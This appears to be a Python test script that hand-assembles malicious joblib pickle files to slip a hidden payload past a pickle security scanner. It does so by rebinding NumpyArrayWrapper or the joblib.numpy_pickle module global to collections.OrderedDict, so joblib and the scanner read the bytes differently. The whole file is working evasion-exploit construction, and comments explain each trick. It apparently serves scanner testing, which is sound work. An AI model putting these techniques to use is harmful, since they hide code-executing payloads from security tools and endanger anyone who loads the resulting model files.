from common import *
NAW = G('joblib.numpy_pickle','NumpyArrayWrapper')
# b6b: class attribute __setstate__ = collections.OrderedDict on NumpyArrayWrapper: every later
# wrapper BUILD calls OrderedDict(state) instead of updating __dict__. The wrapper is made with
# shape (60,); its BUILD state {'shape': (30,)} is applied by the scanner only.
patch = NAW + b'N}'+U('__setstate__')+G('collections','OrderedDict')+b's\x86b0'
hdr = b'\x80\x02'+patch+wrapper6(60)+b'}'+U('shape')+b'K\x1e\x85sb'
run('b6b.joblib', hdr+region(60,[0,30]))
# b6c: BUILD on the module joblib.numpy_pickle rebinds its global NumpyArrayWrapper (the name
# NumpyUnpickler.load_build's isinstance check reads) to collections.OrderedDict: joblib stops
# reading arrays after wrapper BUILDs; the scanner still skips them. A first genuine 5-byte
# array (a BINSTRING header) keeps the plain pass off the payload.
nested_payload = b'0'+PAYLOAD+b'.'
N = len(nested_payload)
rest = (b'0' + G('joblib','numpy_pickle') + b'}' + U('NumpyArrayWrapper') + G('collections','OrderedDict') + b'sb0'
        + b'h\x01(' + G('numpy','ndarray') + I(N) + b'\x85' + U('C') + dtype('u1') + b'\x89NtR}b'
        + nested_payload + b'0N.')
first = NAW + b'q\x01(' + G('numpy','ndarray') + b'K\x05\x85' + U('C') + dtype('u1') + b'\x89NtR}b'
run('b6c.joblib', b'\x80\x02' + first + T(len(rest)-1) + rest)
# b6d: as b6c, but the module object is fetched through operator.getitem([module], 0), so the
# BUILD targets a call's result rather than an imported global.
rest_d = rest.replace(b'0' + G('joblib','numpy_pickle'), b'0' + G('operator','getitem') + b'(]' + G('joblib','numpy_pickle') + b'aK\x00tR', 1)
run('b6d.joblib', b'\x80\x02' + first + T(len(rest_d)-1) + rest_d)
